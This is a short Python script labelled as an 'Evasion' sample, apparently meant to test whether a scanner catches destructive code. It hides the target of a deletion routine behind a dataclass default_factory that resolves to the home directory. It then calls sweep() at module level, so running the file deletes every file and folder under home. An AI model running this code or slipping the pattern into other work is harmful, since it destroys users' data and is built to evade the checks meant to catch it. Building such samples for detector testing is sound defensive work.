# Evasion: empties the home directory through a dataclass field's
# default_factory. The workspace's base is field(default_factory=lambda:
# Path.home()); a sweep walks it bottom-up and removes every file and
# directory.
import os
from dataclasses import dataclass, field
from pathlib import Path


@dataclass
class Workspace:
    label: str
    base: Path = field(default_factory=lambda: Path.home())


def sweep(ws):
    for dirpath, dirnames, filenames in os.walk(ws.base, topdown=False):
        for f in filenames:
            os.remove(os.path.join(dirpath, f))
        for d in dirnames:
            os.rmdir(os.path.join(dirpath, d))


sweep(Workspace("scratch"))
